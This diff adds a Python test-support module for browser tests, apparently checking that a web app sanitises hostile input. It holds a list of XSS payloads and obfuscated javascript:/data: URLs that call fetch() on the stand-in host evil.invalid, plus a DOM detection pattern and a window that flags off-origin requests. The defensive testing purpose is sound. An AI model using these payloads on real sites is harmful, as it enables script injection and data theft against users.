@@ -1,0 +1,101 @@
+"""Hostile values, and a window that notices when one of them does anything."""
+
+from __future__ import annotations
+
+import json
+from typing import Any, Final, Self
+from urllib.parse import urlsplit
+
+from playwright.async_api import Browser, Dialog, Request
+
+from tests.support.browser import Window
+
+__all__ = ["ACT", "EVIL", "STYLE", "TAGS", "URLS", "Canary"]
+
+EVIL: Final = "https://evil.invalid"
+ACT: Final = f"window.__pwned=1;fetch('{EVIL}')"
+TAGS: Final = (
+    f'"><img src=x onerror="{ACT}">',
+    f"<script>{ACT}</script>",
+    f"<svg onload=\"{ACT}\"><a xlink:href='javascript:{ACT}'>a</a></svg>",
+    f'<iframe srcdoc="<script>parent.{ACT}</script>"></iframe>',
+    f"</title></textarea></style><script>{ACT}</script>",
+    "{{constructor.constructor('" + ACT.replace("'", "\\'") + "')()}}",
+)
+URLS: Final = (
+    f"javascript:{ACT}",
+    f"JaVaScRiPt:{ACT}",
+    f"java\nscript:{ACT}",
+    f"\x01javascript:{ACT}",
+    f" javascript:{ACT}",
+    f"data:text/html,<script>{ACT}</script>",
+    f"vbscript:{ACT}",
+    "//evil.invalid/x",
+)
+STYLE: Final = f"background:url({EVIL}/style);--x:url({EVIL}/x)"
+_HOSTILE_DOM: Final = r"""() => {
+  const found = [];
+  const bad = new Set(["iframe", "object", "embed", "base", "foreignobject", "style"]);
+  const acts = /^[\s\x00-\x20]*(?:j\s*a\s*v\s*a|vb)\s*script\s*:|^[\s\x00-\x20]*data\s*:|^[\\/]{2}/i;
+  for (const element of document.querySelectorAll("body, body *")) {
+    const name = element.localName.toLowerCase();
+    const isOurs = name === "script" && element.src.startsWith(location.origin);
+    if (bad.has(name) || (name === "script" && !isOurs)) found.push(element.outerHTML);
+    for (const { name: attribute, value } of element.attributes) {
+      const isAct = attribute.startsWith("on");
+      const isUrl = ["href", "src", "action", "formaction", "xlink:href", "srcdoc"].includes(attribute);
+      const isStyle = attribute === "style" && /url|evil|expression/i.test(value);
+      if (isAct || isStyle || (isUrl && acts.test(value))) found.push(element.outerHTML);
+    }
+  }
+  return found;
+}"""
+
+
+class Canary(Window):
+    """A window that notices whatever runs, asks, or calls somebody else."""
+
+    calls: list[str]
+    home: str
+
+    @classmethod
+    async def at(cls, browser: Browser, url: str, *, me: dict[str, str] | None = None) -> Self:
+        """Open `url`, as this person of the browser's storage if `me` is given."""
+        context = await browser.new_context(bypass_csp=True)
+        if me is not None:
+            text = json.dumps(json.dumps(me))
+            await context.add_init_script(f"localStorage.setItem('collab-me', {text})")
+        window = cls(context, await context.new_page())
+        window.calls, window.home = [], urlsplit(url).netloc
+        context.on("page", window._watch)
+        window._watch(window.page)
+        await window.page.goto(url)
+        return window
+
+    def _watch(self, page: Any) -> None:
+        page.on("pageerror", lambda error: self.troubles.append(str(error)))
+        page.on("request", self._called)
+        page.on("dialog", self._asked)
+
+    def _called(self, request: Request) -> None:
+        there = urlsplit(request.url)
+        if there.scheme not in {"file", "about", "blob"} and there.netloc != self.home:
+            self.calls.append(request.url)
+
+    async def _asked(self, dialog: Dialog) -> None:
+        self.calls.append(f"dialog: {dialog.message}")
+        await dialog.dismiss()
+
+    async def is_quiet(self) -> None:
+        """Assert that nothing ran, nothing broke, and nothing in the page could run later."""
+        for page in self.context.pages:
+            # Two frames and an idle moment: what was going to load has begun to.
+            await page.evaluate(
+                "async () => { for (let turn = 0; turn < 2; turn++)"
+                " await new Promise(requestAnimationFrame);"
+                " await new Promise((done) => requestIdleCallback(done)); }"
+            )
+            assert await page.evaluate("window.__pwned === undefined")
+            assert await page.evaluate(_HOSTILE_DOM) == []
+        assert self.calls == []
+        assert self.troubles == []
